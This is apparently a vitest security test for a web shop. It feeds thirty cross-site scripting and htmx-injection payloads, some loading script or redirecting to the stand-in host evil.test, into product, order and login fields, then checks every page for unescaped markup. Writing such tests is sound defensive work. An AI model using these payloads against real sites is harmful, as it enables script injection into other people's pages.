import { expect, test } from 'vitest'
import { openTestApp } from '../support/app.js'
import { fillIn, routesOf } from '../support/routes.js'

/** Thirty ways to make a text into something that runs, fetches or breaks out of where it stands. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert`1`>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.test><input type=submit>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import url(//evil.test)</style>',
  '<math><mtext><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '` onmouseover=`alert(1)',
  '" hx-get="/admin/products/new" hx-trigger="load',
  '" hx-on::load="alert(1)',
  '<div hx-get=/admin hx-trigger=load>',
  '<hx-partial hx-target=body><b>x</b></hx-partial>',
  '\u202e<script>alert(1)</script>\u0000',
]

/** Every tag that a page opens, with its attributes as they stand. */
function tagsIn(html: string): string[] {
  return html.match(/<[a-zA-Z!][^<>]*>/g) ?? []
}

test('thirty attacks as names, descriptions, reasons and filters are text on every page that shows them', async () => {
  expect(new Set(ATTACKS).size).toBe(30)
  const { app, operator, signedIn, aProduct } = await openTestApp()
  const [admin, customer] = [await operator(), await signedIn()]

  const pages = routesOf(app).filter(
    ({ method, path }) => method === 'GET' && !/^\/(api|assets|metrics|healthz|readyz)|(csv|ics)$/.test(path),
  )
  expect(pages.length).toBeGreaterThan(15)
  const faults: string[] = []
  for (const attack of ATTACKS) {
    const text = attack.replaceAll('\0', '')
    const product = await aProduct({ name: text, description: text })
    await admin.api('POST', `/api/admin/products/${product}/stock`, { quantity: 1, reason: text })
    const held = await customer.api('POST', '/api/holds', { product_id: product, quantity: 1 })
    const order = held.json.order.id
    const kept = await customer.api('POST', '/api/holds', { product_id: product, quantity: 1 })
    await admin.api('POST', `/api/admin/orders/${order}/cancel`, { reason: text })
    for (const route of pages) {
      const mine = /checkout|^\/orders|fragments\/orders/.test(route.path)
      const address = fillIn(route, { product, order: kept.json.order.id })
      const query = /orders$/.test(route.path) && !mine ? `?email=${encodeURIComponent(text)}` : ''
      const { text: html } = await (mine ? customer : admin).request('GET', address + query)
      faults.push(...shownAsMarkup(html, text).map((fault) => `${route.path}: ${fault}`))
    }
    const refused = await customer.post('/holds', {
      product_id: String(product),
      quantity: text,
      request_id: '',
    })
    const login = await customer.post('/login', { email: text, password: text, next: text })
    const edited = await admin.post('/admin/products', {
      name: text,
      description: text,
      price: text,
      stock: text,
    })
    for (const [where, { text: html }] of Object.entries({ refused, login, edited })) {
      faults.push(...shownAsMarkup(html, text).map((fault) => `${where}: ${fault}`))
    }
  }
  expect(faults).toEqual([])
})

/** Where an attack stands on a page otherwise than as text, or made a tag or an attribute that no page of ours has. */
function shownAsMarkup(html: string, attack: string): string[] {
  // Data for the charts is JSON in which every < is spelled out; a browser reads no quotes there.
  const markup = html.replace(/(<script type="application\/json"[^>]*>)[^<]*(<\/script>)/g, '$1$2')
  const raw = /[<>"']/.test(attack) && markup.includes(attack) ? [`shows ${attack} as it is`] : []
  const strange = tagsIn(html).filter((tag) =>
    /\son[a-z:]+=|javascript:|evil\.test|hx-on/i.test(
      tag.replace(/="[^"]*"/g, '=""').concat(addressesIn(tag)),
    ),
  )
  return [...raw, ...strange.map((tag) => `has ${tag.slice(0, 120)}`)]
}

/** The values of the attributes that a browser follows or runs. */
function addressesIn(tag: string): string {
  return [...tag.matchAll(/\s(?:href|src|action|formaction|content|hx-[a-z-]+)="([^"]*)"/g)]
    .map(([, url]) => url)
    .join(' ')
}

test.each(ATTACKS.filter((attack) => /[<"']/.test(attack)))(
  '%s would be found where it stood as it is',
  (attack) => {
    expect(shownAsMarkup(`<p title="${attack}">${attack}</p>`, attack)).not.toEqual([])
  },
)
